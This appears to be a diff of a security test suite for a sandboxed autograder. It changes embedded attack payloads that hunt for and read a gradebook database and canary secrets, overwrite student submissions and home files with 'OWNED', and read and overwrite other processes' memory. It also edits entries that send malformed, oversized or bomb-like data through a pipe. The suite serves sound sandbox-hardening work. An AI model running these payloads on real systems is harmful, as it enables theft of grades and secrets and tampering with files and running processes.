@@ -5,8 +5,8 @@ from attacks.limits import GUARD
 
 GRADEBOOK = """
 import glob, os, sqlite3
-paths = ["@GRADEBOOK@", *("../" * up + "gradebook.db" for up in range(8))]
-for path in paths + glob.glob("/tmp/*/gradebook.db") + glob.glob("/**/gradebook.db"):
+paths = ["@GRADEBOOK@", *("../" * up + "gradebook.db" for up in range(4))]
+for path in paths:
     try:
         if not os.path.exists(path):
             continue
@@ -26,7 +26,7 @@ for path in ("@SOURCE@", "@RELEASE@", "@EXERCISES@", "@AUTOGRADER@/task.py", "@C
     try:
         text = open(path).read()
         at = text.find("canary-")
-        print("read", path, text[at : at + 40] if at >= 0 else "")
+        print("read", path, text[at : at + 60] if at >= 0 else "")
     except OSError as error:
         print(path, error)
     for mode in ("a", "r+b"):
@@ -51,7 +51,7 @@ for pattern in ("@COURSE@/submitted/*/*/*", "@COURSE@/autograded/*/*/*", "../../
         try:
             text = open(path, errors="replace").read()
             at = text.find("canary-")
-            print("read", path, text[at : at + 40] if at >= 0 else len(text))
+            print("read", path, text[at : at + 60] if at >= 0 else len(text))
             open(path, "w").write("OWNED")
         except OSError as error:
             print(path, error)
@@ -66,7 +66,7 @@ for home in homes | set(glob.glob("/home/*")):
             text = open(path, errors="replace").read(10**6)
             at = text.find("canary-")
             if at >= 0:
-                print("read", path, text[at : at + 40])
+                print("read", path, text[at : at + 60])
             if path == "@HOME_FILE@":
                 open(path, "w").write("OWNED")
         except OSError:
@@ -207,7 +207,7 @@ for pid in (@VICTIM@, @VICTIM_OF_NOBODY@, os.getppid(), 1):
             got = libc.process_vm_readv(pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)
             if got > 0 and b"canary-" in buffer.raw:
                 place = buffer.raw.find(b"canary-")
-                print("stolen", buffer.raw[place : place + 40])
+                print("stolen", buffer.raw[place : place + 60])
             libc.process_vm_writev(pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)
 """
 
@@ -226,13 +226,13 @@ for pid in (@VICTIM@, @VICTIM_OF_NOBODY@, os.getppid(), 1):
                         with open(path, "r+b", 0) as memory:
                             memory.seek(start)
                             data = memory.read(end - start)
-                            print("stolen", data[data.find(b"canary-"):][:40])
+                            print("stolen", data[data.find(b"canary-"):][:60])
                             memory.seek(end - 4096)
                             memory.write(b"\\0" * 4096)
             else:
                 data = open(path, "rb").read()
                 at = data.find(b"canary-")
-                print(path, data[at : at + 40] if at >= 0 else "")
+                print(path, data[at : at + 60] if at >= 0 else "")
         except (OSError, ValueError) as error:
             print(path, error)
 """
@@ -599,19 +599,19 @@ for module, names in ((json, ("dumps", "dump", "loads", "load")), (struct, ("pac
 """
 
 CROSS_THE_PIPE = [
-    Attack("promises-terabytes", PIPE, honest(TERABYTES), 6.0, refusable=True, quick=True),
-    Attack("random-bytes", PIPE, honest(GARBAGE), 6.0, refusable=True),
-    Attack("truncated-frame", PIPE, honest(TRUNCATED), 6.0, refusable=True),
-    Attack("json-bombs", PIPE, honest(BOMB), 6.0, refusable=True),
-    Attack("interleaved-frames", PIPE, honest(INTERLEAVED), 6.0, refusable=True),
+    Attack("promises-terabytes", PIPE, honest(TERABYTES), 6.0, forfeits=True, quick=True),
+    Attack("random-bytes", PIPE, honest(GARBAGE), 6.0, forfeits=True),
+    Attack("truncated-frame", PIPE, honest(TRUNCATED), 6.0, forfeits=True),
+    Attack("json-bombs", PIPE, honest(BOMB), 6.0, forfeits=True),
+    Attack("interleaved-frames", PIPE, honest(INTERLEAVED), 6.0, forfeits=True),
     Attack(
         "terabytes-in-an-answer",
         PIPE,
-        added(TERABYTES.replace("\nfor", "\ndef later():\n  for", 1), l2_penalty="return 0.0"),
+        added(WRITE, l2_penalty="everywhere(struct.pack('>I', 2**31))\nreturn 0.0"),
     ),
     Attack("closes-all-descriptors", PIPE, honest(MUTE), 6.0),
     Attack("swaps-all-descriptors", PIPE, honest(SWAPPED), 6.0),
-    Attack("eats-requests", PIPE, honest(EATS), 6.0, refusable=True),
+    Attack("eats-requests", PIPE, honest(EATS), 6.0, forfeits=True),
     Attack("patched-modules", PIPE, added(MODULES)),
 ]
 
